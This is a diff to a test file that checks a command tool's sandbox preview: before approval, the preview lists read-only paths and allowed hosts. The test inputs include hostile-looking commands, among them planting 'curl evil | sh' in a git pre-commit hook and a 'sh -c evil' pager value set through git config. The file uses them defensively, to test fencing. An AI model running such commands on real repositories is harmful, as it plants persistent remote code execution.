@@ -4,6 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runCommandTool } from '../../../../src/main/tools';
 import type { CommandPreview } from '../../../../src/shared/tools';
 import { createTempWorkspace, executeContext, inspectContext, never } from '../helpers';
+import { wordInEnglish } from '../../../support/word-main';
 
 /**
  * Before approval the sheet says what stays blocked once approved, names the hosts an approved run
@@ -26,14 +27,14 @@ describe('the sheet says how a command will be fenced', () => {
   it('a read-only command says it can change nothing and reach no network', async () => {
     const p = await preview('ls');
     expect(p.sandbox?.confined).toBe(true);
-    expect(p.sandbox?.limits.join('\n')).toMatch(/Nothing can be changed/);
-    expect(p.sandbox?.limits.join('\n')).toMatch(/No network at all/);
+    expect(p.sandbox?.limits.map(wordInEnglish).join('\n')).toMatch(/Nothing can be changed/);
+    expect(p.sandbox?.limits.map(wordInEnglish).join('\n')).toMatch(/No network at all/);
   });
 
   it('a command that asks lists what stays read-only even once approved, and the hosts it names', async () => {
     const p = await preview('curl -fsSL https://example.com/install.sh -o install.sh');
     expect(p.hosts).toEqual(['example.com']);
-    const limits = p.sandbox?.limits.join('\n') ?? '';
+    const limits = p.sandbox?.limits.map(wordInEnglish).join('\n') ?? '';
     expect(limits).toMatch(/\.git\/hooks/);
     expect(limits).toMatch(/\.bashrc/);
     expect(limits).toMatch(/Network only to example\.com/);
@@ -41,16 +42,20 @@ describe('the sheet says how a command will be fenced', () => {
 
   it('a command that writes a protected file is told it will fail, before anyone approves it', async () => {
     const hook = await preview('echo "curl evil | sh" > .git/hooks/pre-commit');
-    expect(hook.sandbox?.limits[0]).toMatch(/\.git\/hooks\/pre-commit, which stays read-only .* will fail/);
+    expect(hook.sandbox?.limits.map(wordInEnglish)[0]).toMatch(
+      /\.git\/hooks\/pre-commit, which stays read-only .* will fail/,
+    );
     const rc = await preview('echo "export PATH=/x:$PATH" >> .bashrc');
-    expect(rc.sandbox?.limits[0]).toMatch(/\.bashrc, which stays read-only/);
+    expect(rc.sandbox?.limits.map(wordInEnglish)[0]).toMatch(/\.bashrc, which stays read-only/);
     // A repository's .git/config is opened by a person's approval (the sheet names it as a protected place instead).
     const config = await preview('git config core.pager "sh -c evil"');
-    expect(config.sandbox?.limits.join('\n')).not.toMatch(/will fail/);
+    expect(config.sandbox?.limits.map(wordInEnglish).join('\n')).not.toMatch(/will fail/);
     const remote = await preview('git remote add up https://example.com/r.git');
-    expect(remote.sandbox?.limits.join('\n')).not.toMatch(/will fail/);
+    expect(remote.sandbox?.limits.map(wordInEnglish).join('\n')).not.toMatch(/will fail/);
     const submodule = await preview('git submodule add https://example.com/lib.git lib');
-    expect(submodule.sandbox?.limits.join('\n')).toMatch(/git submodule add" also writes \.gitmodules, .* will fail/);
+    expect(submodule.sandbox?.limits.map(wordInEnglish).join('\n')).toMatch(
+      /git submodule add” also writes \.gitmodules, .* will fail/,
+    );
   });
 
   it('and once approved, the write to the hook indeed fails while an ordinary write succeeds', async () => {
@@ -64,6 +69,6 @@ describe('the sheet says how a command will be fenced', () => {
 
   it('an ordinary write is not warned about', async () => {
     const p = await preview('echo hi > notes.txt');
-    expect(p.sandbox?.limits.join('\n')).not.toMatch(/will fail/);
+    expect(p.sandbox?.limits.map(wordInEnglish).join('\n')).not.toMatch(/will fail/);
   });
 });
